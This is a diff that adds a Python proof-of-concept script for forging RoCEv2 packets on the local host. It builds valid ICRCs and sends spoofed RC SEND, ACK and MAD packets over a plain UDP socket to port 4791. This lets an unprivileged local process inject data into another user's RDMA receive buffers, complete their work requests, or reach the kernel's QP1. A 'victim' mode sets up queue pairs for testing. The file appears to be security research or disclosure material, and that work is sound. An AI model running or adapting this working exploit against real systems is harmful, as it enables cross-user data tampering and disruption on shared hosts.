@@ -1,0 +1,110 @@
+"""A local process forging RoCEv2 packets into connections whose two ends are on its own host.
+
+Any process may open a plain UDP socket, bind it to a local address and send a datagram to that
+address's port 4791: it comes back through `lo` with a local source address, which is the peer
+address of every RC connection between two processes of the host. With the live PSNs in hand
+(`rdma resource show qp -dd`) and a valid ICRC, such a packet was a SEND into another user's
+receive buffer, an ACK completing another user's WQEs, or a MAD to the kernel's QP1.
+
+Usage:
+  local_forger.py victim DEVICE    two RC QPs of DEVICE connected through its IPv4 GID; prints
+                                   "A_QPN B_QPN"; then for each line "real" on stdin, A SENDs
+                                   "realsend" to B and it prints what B's posted receive got:
+                                   "received HEX COMPLETIONS" (or "no completion")
+  local_forger.py forge SRC DST QPN KIND PSN
+                                   one datagram from a UDP socket bound to SRC (port chosen by
+                                   the kernel) to DST:4791, for QP QPN at PSN; KIND: send (RC
+                                   SEND ONLY of "forged!!"), ack (RC ACKNOWLEDGE), mad (UD SEND
+                                   ONLY of a 256-byte MAD to QP1 with the GSI Q_Key)
+The forger needs only the standard library: `python3 -I -S - forge ... < local_forger.py`
+runs it from a file its user may not be able to open.
+"""
+import socket
+import struct
+import sys
+import time
+import zlib
+
+ICRC_SEED = 0xDEBB20E3
+IP_MTU_DISCOVER, IP_PMTUDISC_DO = 10, 2
+GSI_QKEY = 0x80010000
+
+
+def icrc(pkt):
+    """The RoCEv2 ICRC of an IPv4 datagram (IP header on), little-endian on the wire."""
+    m = bytearray(pkt[:40])
+    m[1] = 0xFF                 # TOS
+    m[8] = 0xFF                 # TTL
+    m[10:12] = b"\xff\xff"      # IP checksum
+    m[26:28] = b"\xff\xff"      # UDP checksum
+    m[32] = 0xFF                # BTH resv8a
+    return zlib.crc32(bytes(m) + pkt[40:], ~ICRC_SEED & 0xFFFFFFFF)
+
+
+def transport(kind, qpn, psn):
+    """The BTH and what follows it, up to the ICRC."""
+    if kind == "send":
+        return struct.pack("!BBHII", 0x04, 0x40, 0xFFFF, qpn, (1 << 31) | psn) + b"forged!!"
+    if kind == "ack":
+        return struct.pack("!BBHII", 0x11, 0x40, 0xFFFF, qpn, psn) + struct.pack("!I", 0x1F << 24 | psn)
+    if kind == "mad":
+        deth = struct.pack("!II", GSI_QKEY, 1)
+        return struct.pack("!BBHII", 0x64, 0x40, 0xFFFF, 1, psn) + deth + bytes(256)
+    sys.exit(f"unknown kind {kind}")
+
+
+def forge(src, dst, qpn, kind, psn):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    # DF on an unconnected socket: the kernel gives the datagram IP ID 0, so its header, which
+    # the ICRC covers, is known in advance (TOS, TTL and the checksums are masked out).
+    s.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_DO)
+    s.bind((src, 0))
+    sport = s.getsockname()[1]
+    body = transport(kind, qpn & 0xFFFFFF, psn & 0xFFFFFF)
+    udp_len = 8 + len(body) + 4
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0x4000, 64, 17, 0,
+                     socket.inet_aton(src), socket.inet_aton(dst))
+    udp = struct.pack("!HHHH", sport, 4791, udp_len, 0)
+    s.sendto(body + struct.pack("<I", icrc(ip + udp + body)), (dst, 4791))
+    print(f"sent {kind} to QP {qpn:#x} at PSN {psn} from port {sport}", flush=True)
+
+
+def victim(device):
+    from pyverbs.device import Context
+    from pyverbs.wr import RecvWR, SGE
+    import pyverbs.enums as e
+    from rdma_data import pair
+
+    ctx = Context(name=device)
+    a, b = pair(ctx)
+    inbox = b.mr(64)
+    b.qp.post_recv(RecvWR(wr_id=7, num_sge=1, sg=[SGE(inbox.buf, 64, inbox.lkey)]))
+    print(a.qp.qp_num, b.qp.qp_num, flush=True)
+    for line in sys.stdin:
+        if line.strip() != "real":
+            break
+        _src = a.start_data(e.IBV_WR_SEND, b"realsend", wr_id=8)
+        deadline, got = time.time() + 30, []
+        while time.time() < deadline and not got:
+            n, wcs = b.cq.poll(4)
+            got = list(wcs[:n])
+            time.sleep(0.05)
+        if not got:
+            print("no completion", flush=True)
+            continue
+        time.sleep(0.5)
+        n, more = b.cq.poll(4)
+        print(f"received {inbox.read(8, 0).hex()} {len(got) + n} {got[0].status}", flush=True)
+
+
+def main():
+    if sys.argv[1] == "victim":
+        victim(sys.argv[2])
+    elif sys.argv[1] == "forge":
+        forge(sys.argv[2], sys.argv[3], int(sys.argv[4], 0), sys.argv[5], int(sys.argv[6], 0))
+    else:
+        sys.exit(__doc__)
+
+
+if __name__ == "__main__":
+    main()
